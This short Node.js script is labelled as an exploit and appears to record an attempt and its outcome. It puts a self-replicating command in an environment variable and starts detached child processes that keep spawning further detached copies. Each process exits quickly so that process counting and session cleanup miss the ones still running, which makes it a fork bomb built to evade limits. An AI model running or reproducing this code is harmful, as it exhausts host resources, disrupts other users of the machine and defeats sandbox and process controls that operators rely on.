// exploit: every process starts its successor in a session of its own and ends, so that whoever is counted is gone already
// outcome: finished
// beside: neighbour
const { spawn } = require('node:child_process')
process.env.HEAD = "const { spawn } = require('node:child_process'); for (const name of ['a', 'b']) spawn(process.execPath, ['-e', process.env.HEAD], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref()"
for (let head = 0; head < 3; head += 1) spawn(process.execPath, ['-e', process.env.HEAD], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref()
setTimeout(() => process.exit(0), 600)
